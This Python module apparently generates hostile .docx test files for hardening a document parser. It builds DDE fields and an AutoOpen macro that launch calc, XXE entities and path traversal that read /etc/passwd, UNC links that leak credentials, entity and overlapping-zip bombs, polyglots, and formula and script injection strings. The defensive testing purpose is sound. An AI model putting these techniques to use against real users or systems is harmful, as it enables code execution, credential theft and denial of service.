"""Files of .docx that want something done: another file opened, an address called, a macro run, a part unpacked elsewhere."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_STORED, ZipFile

from docx_maker import NAMESPACES, char, docx, field, p, pack
from pdf_sheets import Sheet, make_pdf

from generators.archive import CENTRAL, END, LOCAL, patch, unpack
from generators.archive import pack as packed

AWAY = "http://192.0.2.1/x"
"""an address that leads nowhere (RFC 5737)"""
TEXT = p("请各单位按时报送。")
_DECLARED = f"<w:document {NAMESPACES}><w:body>{TEXT}</w:body></w:document>"


def references_out(target: str = AWAY) -> bytes:
    """Every kind of relationship to outside, used in the text where there is a way to."""
    kinds = (
        "attachedTemplate", "image", "oleObject", "hyperlink", "subDocument", "aFChunk", "frame", "header", "footer", "styles",
        "numbering", "footnotes", "endnotes", "settings", "mailMergeSource", "mailMergeHeaderSource", "transform", "video",
        "audio", "glossaryDocument", "theme", "comments", "diagramData", "chart", "package", "customXml",
    )
    relations = "".join(
        f'<Relationship Id="x{kind}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/>' for kind in kinds for mode in (' TargetMode="External"', "")
    )
    graphic = '<a:graphicData><pic:pic><a:blip r:link="ximage" r:embed="ximage"/></pic:pic></a:graphicData>'
    picture = f"<w:r><w:drawing><wp:inline><a:graphic>{graphic}</a:graphic></wp:inline></w:drawing></w:r>"
    ends = '<w:headerReference w:type="default" r:id="xheader"/><w:footerReference w:type="default" r:id="xfooter"/>'
    source = '<w:mailMerge><w:dataSource r:id="xmailMergeSource"/></w:mailMerge>'
    outer = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
    ole = '<w:r><w:object><v:shape><v:imagedata r:id="ximage" r:href="ximage"/></v:shape>' \
          '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="xoleObject"/></w:object></w:r>'
    return docx(
        TEXT, p(picture, ole, "图"), p('<w:hyperlink r:id="xhyperlink"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'),
        '<w:subDoc r:id="xsubDocument"/>', f"<w:sectPr>{ends}</w:sectPr>", relations=relations,
        settings=f'<w:attachedTemplate r:id="xattachedTemplate"/>{source}', parts={"word/_rels/settings.xml.rels": outer},
    )


def references_up() -> bytes:
    """The same, to a file of the machine by climbing out of the package."""
    return references_out("../../../../../../etc/passwd")


def references_absolute() -> bytes:
    """The same, by a path from the root."""
    return references_out("/etc/passwd")


def references_file() -> bytes:
    """The same, by an address of a file."""
    return references_out("file:///etc/passwd")


def references_share() -> bytes:
    """The same, to a share, which would send the user's name and password along."""
    return references_out(r"\\192.0.2.1\share\x.dotm")


def references_odd() -> bytes:
    """The same, to what is no address."""
    return references_out("C:\\CON&#10;%00%2e%2e%2f//?\u202e" + "../" * 20_000)


def chunk() -> bytes:
    """Text that is to be fetched from another file."""
    relation = f'<Relationship Id="a" Type="x/aFChunk" Target="{AWAY}" TargetMode="External"/>'
    return docx(TEXT, '<w:altChunk r:id="a"/>', relations=relation)


def fields_that_fetch(target: str = AWAY) -> bytes:
    """Fields that open files, call addresses and start programs when they are brought up to date."""
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'DDE Excel "C:\\\\x.xls" R1C1', f'INCLUDETEXT "{target}"',
        f'INCLUDEPICTURE "{target}" \\d', f'LINK Word.Document.8 "{target}" \\a', f'IMPORT "{target}"',
        f'DATABASE \\d "{target}"', f'HYPERLINK "{target}"', "MACROBUTTON AutoOpen 点这里", f'RD "{target}"',
        "QUOTE { DDEAUTO c:\\x }", f'AUTOTEXT "{target}"',
    )
    return docx(*(p(field(code, None), field(code, "结果")) for code in codes), p(char("begin"), "开"))


def macros() -> bytes:
    """A .docm with a macro project, a toolbar and a control that wants to start by itself."""
    data = unpack(docx(TEXT, parts={
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub" * 100,
        "word/vbaData.xml": "<x/>", "word/activeX/activeX1.bin": b"\0" * 100, "customUI/customUI.xml": '<x onLoad="AutoOpen"/>',
    }))
    types = data["[Content_Types].xml"]
    data["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return packed(data)


def inclusion() -> bytes:
    """XInclude of a file of the machine."""
    return docx(TEXT, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')


def stylesheet(target: str = AWAY) -> bytes:
    """A style sheet that is to be fetched before the text is read, and a schema."""
    head = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{target}"?>'
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {target}"'
    return docx(parts={"word/document.xml": head + _DECLARED.replace("<w:document ", f"<w:document {schema} ", 1)})


def entity_outside(target: str = "file:///etc/passwd") -> bytes:
    """Entities and a document type that stand elsewhere."""
    doctype = f'<!DOCTYPE x SYSTEM "{target}" [<!ENTITY e SYSTEM "{target}"><!ENTITY % p SYSTEM "{target}">%p;]>'
    return docx(parts={"word/document.xml": doctype + _DECLARED.replace("请各", "&e;各")})


def entity_in_sixteen_bits() -> bytes:
    """The same in UTF-16 with and without its mark, where a search for <!DOCTYPE finds nothing."""
    text = '<?xml version="1.0" encoding="UTF-16BE"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return docx(parts={"word/document.xml": (text + _DECLARED.replace("请各", "&e;各")).encode("utf-16-be")})


def entity_in_seven_bits() -> bytes:
    """The same in UTF-7 and EBCDIC, which some parsers know."""
    text = '<?xml version="1.0" encoding="IBM037"?><!DOCTYPE x [<!ENTITY e "a">]><x>&e;</x>'
    return docx(TEXT, parts={"word/document.xml": text.encode("cp037")})


def entity_beside() -> bytes:
    """Entities in every part beside the text."""
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    return docx(
        TEXT, styles="<x/>", numbering="<x/>", footnotes="<x/>",
        parts=dict.fromkeys((
            "word/styles.xml", "word/numbering.xml", "word/footnotes.xml", "word/settings.xml", "docProps/app.xml",
        ), f"{bomb}<w:x {NAMESPACES}>&b;</w:x>"),
    )


def names_odd() -> bytes:
    """Parts under names with controls, marks of direction, drives, devices, and the text under a few at once."""
    names = (
        "word/\x01\n\r\u202e\u2066.xml", "C:\\Windows\\x.xml", "C:/x", "\\\\192.0.2.1\\x", "//192.0.2.1/x", "CON", "word/aux.xml",
        "../word/document.xml", "word/../../document.xml", "/word/document.xml", "word//document.xml", "=cmd|'/c calc'!A0",
        "<script>", "word/\U0001f4a9" * 100, "-rf", "~/.ssh/x", "word/document.xml/", "word/document.xml/x",
    )
    data = unpack(docx(TEXT))
    return packed([*data.items(), *((name, b"<x/>") for name in names)])


def name_with_nul() -> bytes:
    """The text under a name that ends for some readers at a NUL."""
    return docx(TEXT).replace(b"word/document.xml", b"word/document\0xml")


def name_twice() -> bytes:
    """The text is there twice, with different words: which one is read must not change from reader to reader."""
    data = unpack(docx(TEXT))
    other = data["word/document.xml"].replace("按时".encode(), "暂不".encode())
    return packed([*data.items(), ("word/document.xml", other), ("WORD/DOCUMENT.XML", other), ("word\\document.xml", other)])


def entries_overlapping() -> bytes:
    """2,000 parts that all share one compressed kernel of 1 MiB (after Fifield 2019): 2 GiB in 100 KiB."""
    return _sharing(2_000, b" " * (1 << 20))


def text_overlapping() -> bytes:
    """The text and its styles are the same bytes."""
    return _sharing(1, _DECLARED.encode(), ("word/styles.xml", "word/document.xml"))


def quine() -> bytes:
    """A package that holds itself, four deep, each time as a part that the text refers to."""
    data = docx(TEXT)
    for _ in range(4):
        relation = '<Relationship Id="q" Type="x/aFChunk" Target="q.docx"/>'
        data = docx(TEXT, relations=relation, parts={"word/q.docx": data, "word/embeddings/oleObject1.bin": data})
    return data


def stored_in_deflated() -> bytes:
    """A zip bomb as the text, in a zip, in a zip."""
    inner = pack({"word/document.xml": b" " * (100 << 20)})
    return pack({"word/document.xml": pack({"word/document.xml": inner})})


def encrypted_partly() -> bytes:
    """Only the text says that it is encrypted."""
    return patch(docx(TEXT), CENTRAL, 8, "<H", 1)


def sizes_of_64_bits() -> bytes:
    """Sizes that stand in a field for 64 bits, and are beyond them."""
    extra = struct.pack("<HHQQQ", 1, 24, 2**63, 2**64 - 1, 2**62)
    made = BytesIO()
    with ZipFile(made, "w", ZIP_STORED) as file:
        from zipfile import ZipInfo

        for name, content in unpack(docx(TEXT)).items():
            info = ZipInfo(name)
            info.extra = extra
            file.writestr(info, content)
    data = patch(made.getvalue(), CENTRAL, 24, "<I", 0xFFFFFFFF, every=True)
    return patch(data, CENTRAL, 20, "<I", 0xFFFFFFFF, every=True)


def directory_of_nothing() -> bytes:
    """A directory that says it has 65,535 entries and has none."""
    return patch(patch(docx(TEXT), END, 8, "<H", 0xFFFF), END, 12, "<I", 0)


def directory_twice() -> bytes:
    """Two ends of the directory, the second in a comment of the first."""
    first, second = docx(TEXT), docx(p("另一份文件的正文。"))
    return patch(first, END, 20, "<H", len(second)) + second


def offsets_alike() -> bytes:
    """Every part is said to stand at the beginning."""
    return patch(docx(TEXT), CENTRAL, 42, "<I", 0, every=True)


def dates_absurd() -> bytes:
    """Parts of the thirteenth month."""
    return patch(patch(docx(TEXT), CENTRAL, 12, "<I", 0xFFFFFFFF, every=True), LOCAL, 10, "<I", 0xFFFFFFFF, every=True)


def pdf_and_docx() -> bytes:
    """A file that is a .pdf from the front and a .docx from the back."""
    return make_pdf(Sheet().text(80, 100, "一页有字的文件")) + docx(TEXT)


def docx_and_pdf() -> bytes:
    """A .docx whose first part, uncompressed, is a .pdf."""
    made = BytesIO()
    with ZipFile(made, "w", ZIP_STORED) as file:
        file.writestr("x.pdf", make_pdf(Sheet().text(80, 100, "一页有字的文件")))
        for name, content in unpack(docx(TEXT)).items():
            file.writestr(name, content)
    return made.getvalue()


def properties_that_script() -> bytes:
    """A title, an issuer and properties that are formulas, mark-up and commands."""
    return docx(
        p("=cmd|'/c calc'!A0", says='<w:jc w:val="center"/>'), p("<script>alert(1)</script>关于@SUM(1+1)的通知"), TEXT,
        p("::error file=x::y%0A\x85\u2028\u202e"), app="<Pages>99999999999999999999</Pages><Characters>-1</Characters>",
    )


def _sharing(count: int, content: bytes, names: tuple[str, ...] = ()) -> bytes:
    """A zip in which many entries of the directory point at one entry."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = deflate.compress(content) + deflate.flush()
    names = names or ("word/document.xml", *(f"word/header{n}.xml" for n in range(count)))
    local = LOCAL + struct.pack("<HHHIIIIHH", 20, 0, 8, 0, zlib.crc32(content), len(kernel), len(content), len(names[0]), 0)
    local += names[0].encode() + kernel
    rows = b"".join(
        CENTRAL + struct.pack(
            "<HHHHIIIIHHHHHII", 20, 20, 0, 8, 0, zlib.crc32(content), len(kernel), len(content), len(name), 0, 0, 0, 0, 0, 0,
        ) + name.encode() for name in names
    )
    end = END + struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(rows), len(local), 0)
    return local + rows + end
